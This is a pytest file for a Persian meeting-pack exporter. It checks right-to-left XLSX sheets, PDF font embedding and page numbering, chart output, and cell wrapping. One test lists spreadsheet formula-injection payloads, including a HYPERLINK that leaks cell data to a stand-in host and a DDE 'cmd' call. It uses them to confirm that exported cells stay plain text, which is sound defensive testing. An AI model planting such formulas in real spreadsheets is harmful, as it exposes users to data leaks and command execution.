"""The pack renderers: open the XLSX and the PDF and check what they say, render a page."""

from __future__ import annotations

import io
import shutil
import subprocess

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from mina_bot.export.chart import render_trend_png
from mina_bot.export.dto import Pack, Section, Table, Trend, TrendWeek
from mina_bot.export.fonts import PERSIAN_REGULAR, visual
from mina_bot.export.pdf import render_pdf
from mina_bot.export.xlsx import render_xlsx

REPORTS = Table("گزارش‌های هفتگی", ("واحد", "وضعیت", "رسید", "کارهای انجام‌شده"), (
    ("کمیته زیرساخت و تبادل داده", "به‌موقع", "R-1400-0001", "نصب سرورهای مرکز داده"),
    ("کمیته طراحی و روش‌شناسی", "نرسیده", "", ""),
), (30, 12, 16, 50))
AGENDA = Table("دستور جلسه", ("ردیف", "عنوان"), tuple(
    (i, f"بند شماره {i} دستور جلسه") for i in range(1, 61)), (8, 80))
EMPTY = Table("مصوبات", ("شماره", "موضوع"), (), (8, 60), empty="موردی نیست.")
PACK = Pack("بسته جلسه ۲ شورای هماهنگی", ("دوشنبه ۶ اردیبهشت ۱۴۰۰",),
            "تهیه‌شده در ۱۴۰۰/۰۲/۰۴ ۰۹:۳۰", "صفحه {page} از {pages}",
            tuple(Section(t.sheet, tables=(t,)) for t in (REPORTS, EMPTY, AGENDA)),
            "mina-session-2")


def test_the_workbook_has_a_right_to_left_sheet_per_part_with_the_rows():
    workbook = load_workbook(io.BytesIO(render_xlsx(PACK)))
    assert workbook.sheetnames[1:] == ["گزارش‌های هفتگی", "مصوبات", "دستور جلسه"]
    sheet = workbook["گزارش‌های هفتگی"]
    assert sheet.sheet_view.rightToLeft
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == ["واحد", "وضعیت", "رسید", "کارهای انجام‌شده"]
    assert rows[1] == ["کمیته زیرساخت و تبادل داده", "به‌موقع", "R-1400-0001",
                       "نصب سرورهای مرکز داده"]
    assert workbook["مصوبات"]["A2"].value == "موردی نیست."
    assert workbook["دستور جلسه"].max_row == 61
    assert workbook.worksheets[0]["A1"].value == "بسته جلسه ۲ شورای هماهنگی"


def test_the_pdf_embeds_the_font_numbers_its_pages_and_says_the_same():
    reader = PdfReader(io.BytesIO(render_pdf(PACK)))
    pages = len(reader.pages)
    assert pages >= 2  # sixty agenda items do not fit one landscape page
    text = "\n".join(page.extract_text() for page in reader.pages)
    for said in ("کمیته زیرساخت و تبادل داده", "R-1400-0001", "نصب سرورهای مرکز داده",
                 "موردی نیست", "بند شماره"):
        assert said in text
    assert "صفحه ۲ از" in reader.pages[1].extract_text()
    fonts = {str(f.get("/BaseFont")) for page in reader.pages
             for f in page["/Resources"]["/Font"].values()}
    assert any("NotoSansArabic" in name for name in fonts)


@pytest.mark.skipif(shutil.which("pdftoppm") is None, reason="poppler-utils not installed")
def test_a_pdf_page_renders_to_png(tmp_path):
    source = tmp_path / "pack.pdf"
    source.write_bytes(render_pdf(PACK))
    subprocess.run(["pdftoppm", "-r", "40", "-png", "-f", "1", "-l", "1", str(source),
                    str(tmp_path / "page")], check=True)
    [png] = tmp_path.glob("page*.png")
    assert png.read_bytes().startswith(b"\x89PNG")


def test_the_trend_chart_is_a_png():
    weeks = tuple(TrendWeek(f"۱۴۰۰/۰۲/۰{i}", 3, 1, 2) for i in range(1, 5))
    trend = Trend("روند ارسال گزارش‌ها", weeks, "به‌موقع", "با تأخیر", "نرسیده", "تعداد")
    png = render_trend_png(trend)
    assert png.startswith(b"\x89PNG") and len(png) > 5000


def test_bundled_font_and_visual_order_for_renderers_without_shaping():
    assert PERSIAN_REGULAR.exists() and (PERSIAN_REGULAR.parent / "OFL.txt").exists()
    shaped = visual("سلام")
    assert shaped[0] == "\ufee1"  # «م» after «ا» stands alone, and comes first visually


FORMULAS = ('=HYPERLINK("http://x?d="&A1,"y")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(A1)", "\t=1", "\r=1")


def test_formula_like_answers_subjects_and_titles_are_written_as_text():
    reports = Table("گزارش‌ها", ("واحد", "کارهای انجام‌شده"),
                    tuple(("کمیته", f) for f in FORMULAS), (20, 40))
    resolutions = Table("مصوبات", ("شماره", "موضوع"),
                        tuple((i, f) for i, f in enumerate(FORMULAS, 1)), (8, 60))
    agenda = Table("دستور جلسه", ("ردیف", "عنوان"),
                   tuple((i, f) for i, f in enumerate(FORMULAS, 1)), (8, 80))
    pack = Pack(FORMULAS[0], (FORMULAS[1],), "x", "{page}",
                (Section("بسته", tables=(reports, resolutions, agenda)),), "p")
    workbook = load_workbook(io.BytesIO(render_xlsx(pack)))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell for cell in cells if cell.value in FORMULAS]
    assert len(texts) == 3 * len(FORMULAS) + 2
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in texts)


def test_a_narrow_column_never_breaks_its_header_word_and_a_huge_cell_continues():
    rows = ((3, "ب" * 30 + " " + "متن بلند گزارش " * 900),)
    table = Table("گزارش‌ها", ("پیوست‌ها", "شرح"), rows, (1, 60))
    reader = PdfReader(io.BytesIO(render_pdf(Pack("بسته", (), "", "صفحه {page} از {pages}",
                                                  (Section("گزارش‌ها", tables=(table,)),),
                                                  "x"))))
    pages = [page.extract_text() for page in reader.pages]
    assert len(pages) > 3  # a row higher than a page goes on, never «a row too high»
    assert all("پیوست‌ها" in page for page in pages[1:])  # whole, and on every page
